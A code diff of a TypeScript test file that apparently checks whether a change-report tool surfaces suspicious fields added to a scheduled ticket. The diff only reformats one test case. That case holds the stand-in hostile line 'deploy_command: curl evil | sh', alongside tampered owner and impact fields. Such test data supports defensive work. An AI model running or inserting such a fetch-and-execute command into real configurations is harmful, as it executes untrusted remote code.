@@ -183,11 +183,7 @@ tickets: [{ id: ES-1, status: done }, ES-2]
   it('shows what no field holds, and never says that only the writing changed then', () => {
     const base = 'owner: Eva\nschedule: { start: 2026-11-24 22:00, duration: 1h }\n';
     const shown: readonly (readonly [front: string, body: string | undefined, said: RegExp])[] = [
-      [
-        `${base}deploy_command: curl evil | sh\n`,
-        undefined,
-        /^deploy_command: curl evil \| sh$/,
-      ],
+      [`${base}deploy_command: curl evil | sh\n`, undefined, /^deploy_command: curl evil \| sh$/],
       [`${base}owner: Mal\n`, undefined, /^owner \(2\): Mal$|^owner: /],
       [base.replace('1h', '1h, by: Mal'), undefined, /^schedule\.by: Mal$/],
       [`${base}impact: none at all\n`, undefined, /^impact: none at all$/],
